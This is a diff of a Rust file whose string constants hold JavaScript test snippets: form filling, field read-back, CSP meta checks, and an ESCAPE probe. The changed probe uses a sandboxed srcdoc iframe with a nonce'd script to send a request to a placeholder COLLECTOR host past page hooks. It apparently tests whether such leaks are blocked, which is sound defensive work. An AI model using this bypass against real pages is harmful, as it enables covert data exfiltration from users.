@@ -23,9 +23,13 @@ const FILL: &str = "const put = (selector, value) => { document.querySelector(se
     document.querySelector('[name=news]').checked = true; scrollTo(0, 1500);";
 const FILLED: &str = "return [...document.querySelectorAll('input, textarea, select')].map(field => \
     field.type === 'checkbox' ? field.checked : field.value)";
-/// Asks the other host past every hook: a frame's realm has none, but goes by its parent's policies.
-const ESCAPE: &str = "const frame = document.body.appendChild(document.createElement('iframe'));
-    return frame.contentWindow.fetch('COLLECTOR/NAME.json', { mode: 'no-cors' }).then(() => true, () => false)";
+/// Asks the other host past every hook: a sandboxed frame lets none in, but goes by its parent's policies.
+const ESCAPE: &str = "const frame = document.createElement('iframe');
+    frame.sandbox = 'allow-scripts';
+    frame.srcdoc = `<script nonce=n>fetch('COLLECTOR/NAME.json', { mode: 'no-cors' }).then(() => true, () => false)
+      .then((went) => parent.postMessage(went, '*'))</` + 'script>';
+    document.body.append(frame);
+    return new Promise((resolve) => addEventListener('message', ({ data }) => resolve(data), { once: true }))";
 const METAS: &str = "return [...document.querySelectorAll('head > meta[http-equiv=Content-Security-Policy]')]\
     .map(meta => meta.content).filter(content => content.includes('default-src'))";
 
